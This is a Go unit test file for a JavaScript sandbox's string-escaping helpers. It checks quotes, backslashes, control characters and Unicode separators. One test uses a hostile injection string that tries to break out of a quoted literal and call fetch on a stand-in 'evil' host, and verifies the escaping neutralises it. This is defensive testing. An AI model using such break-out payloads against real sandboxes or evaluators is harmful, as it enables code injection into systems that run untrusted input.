package sandbox

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/yomuko/yomuko/internal/logging"
)

func TestEscapeString(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{`plain`, `plain`},
		{`with "quotes"`, `with \"quotes\"`},
		{`it's`, `it\'s`},
		{`back\slash`, `back\\slash`},
		{"line\nbreak", `line\nbreak`},
		{"cr\rtab\t", `cr\rtab\t`},
		{"ctrl\x01byte", `ctrl\u0001byte`},
		{"ls\u2028ps\u2029", `ls\u2028ps\u2029`},
		{"日本語", "日本語"},
	}

	for _, tt := range tests {
		assert.Equal(t, tt.want, escapeString(tt.in), "input %q", tt.in)
	}
}

func TestQuote(t *testing.T) {
	assert.Equal(t, `"a\"b"`, quote(`a"b`))
}

func TestEscapedStringRoundTripsThroughGuest(t *testing.T) {
	inst := New("en.escape", testConfig(), logging.NewNop())
	defer inst.Dispose()

	hostile := "x\"; fetch('http://evil'); var y = \"\n\u2028"
	v, err := inst.vm.RunString("(" + quote(hostile) + ")")
	assert.NoError(t, err)
	assert.Equal(t, hostile, v.String())
}
